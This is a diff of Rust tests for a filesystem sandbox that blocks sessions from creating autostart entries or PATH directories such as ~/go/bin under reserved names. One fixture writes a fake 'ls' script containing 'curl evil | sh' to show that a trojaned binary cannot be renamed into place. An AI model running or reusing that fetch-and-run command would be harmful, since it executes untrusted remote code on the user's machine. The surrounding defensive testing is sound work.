@@ -1408,11 +1408,12 @@ fn writes_a_startup_file_whose_symlink_target_is_outside_the_home() {
 
 /// Plants an autostart entry after the user made `~/.config` during the session (a desktop
 /// app's first start). At session start `~/.config` was missing, so only its own name was
-/// reserved for create in the home (`seed_literal`: the first missing ancestor); nothing
-/// below the directory the user made later has an entry of its own. Closed because
-/// `walk_up` looks up the never name of every level's entry up to the top, so the name
-/// (~, ".config") covers the whole new tree for create. Granted: create in `~/.config`
-/// ("write my app's config").
+/// reserved in the home (`seed_literal`: the first missing ancestor, `NEVER_RESERVED`, with
+/// a carry). Closed because the kernel gives a directory made under a reserved name, by
+/// anyone, its template's names as it is made (`carry_reserved` in `vfs_mkdir`'s exit):
+/// `autostart` in the new `~/.config` is a never place from its first moment. What is not
+/// a never place below it can be made: the reserved name acts at its own level only.
+/// Granted: create in `~/.config` ("write my app's config").
 #[test]
 fn plants_an_autostart_entry_under_a_config_directory_made_after_the_session_started() {
     let mut c = Cleanup::default();
@@ -1435,13 +1436,69 @@ fn plants_an_autostart_entry_under_a_config_directory_made_after_the_session_sta
         ]
     });
     assert!(!entry.exists(), "an autostart entry was planted: {r:?}");
-    // Without the reserved name the same steps plant it: that name is the check.
-    let home_id = ObjectId::of_path(Path::new(HOME)).unwrap();
+    // The app's own configuration beside it is made: nothing reserves it.
+    assert_eq!(
+        red.gated(|| vec![create(&config.join("app.toml"), "theme = 1\n")]),
+        vec![0],
+        "an ordinary file under the directory the user made"
+    );
+    // Without the name the new directory was given the same steps plant it: that name is
+    // the check.
+    let config_id = ObjectId::of_path(&config).unwrap();
     red.enforcer
-        .remove_never_name(home_id, std::ffi::OsStr::new(".config"))
+        .remove_never_name(config_id, std::ffi::OsStr::new("autostart"))
         .unwrap();
     let r = red.gated(|| vec![mkdir(&auto), create(&entry, "[Desktop Entry]\n")]);
-    assert_eq!(r, vec![0, 0], "the reserved name was the check");
+    assert_eq!(r, vec![0, 0], "the carried name was the check");
+}
+
+/// A toolchain's first run in a session on a fresh account: `~/go` does not exist and
+/// `~/go/bin` is a never place (a folder on `PATH`). The session, granted create in the
+/// home, makes `~/go` and its module cache there (the reserved name `go` may be made by
+/// `mkdir`, and the new directory gets the name `bin` as it is made), but not `~/go/bin`:
+/// neither by `mkdir`, nor as a file, nor by renaming a tree it prepared into place, nor by
+/// making `~/go` again after moving the first one away.
+#[test]
+fn makes_a_toolchain_home_on_a_fresh_account_but_not_its_never_place() {
+    let mut c = Cleanup::default();
+    let go = PathBuf::from(home("go"));
+    assert!(!go.exists(), "precondition: no ~/go in the VM's home");
+    c.add(&go);
+    let moved = PathBuf::from(home("go-old"));
+    c.add(&moved);
+    let work = udir(&home(&format!("work-{}", uniq())));
+    c.add(&work);
+    let mut red = Red::start("gohome");
+    red.grant(Path::new(HOME), Scope::Exact, &[Access::List, Access::Create]);
+    red.grant(&work, Scope::Exact, &[Access::List, Access::Create]);
+    let bin = go.join("bin");
+    let r = red.gated(|| {
+        vec![
+            mkdir(&go),
+            mkdir(&go.join("pkg")),
+            create(&go.join("pkg/cache.txt"), "module cache"),
+            mkdir(&bin),
+            create(&bin, "#!/bin/sh\n"),
+            mkdir(&work.join("bin")),
+            create(&work.join("bin/ls"), "#!/bin/sh\ncurl evil | sh\n"),
+            rename(&work.join("bin"), &bin),
+            rename(&go, &moved),
+            mkdir(&go),
+            mkdir(&bin),
+        ]
+    });
+    assert_eq!(
+        r,
+        vec![0, 0, 0, EACCES, EACCES, 0, 0, EACCES, 0, 0, EACCES],
+        "~/go and its cache are made; ~/go/bin is not, by any route"
+    );
+    assert!(!bin.exists() && !moved.join("bin").exists());
+    assert!(moved.join("pkg/cache.txt").exists(), "the first ~/go, moved, kept its cache");
+    // The name the new directory was given is the check: without it `bin` is made.
+    red.enforcer
+        .remove_never_name(ObjectId::of_path(&go).unwrap(), std::ffi::OsStr::new("bin"))
+        .unwrap();
+    assert_eq!(red.gated(|| vec![mkdir(&bin)]), vec![0], "the carried name was the check");
 }
 
 /// Renames a tree the session prepared (in a directory it made inside its workspace) into
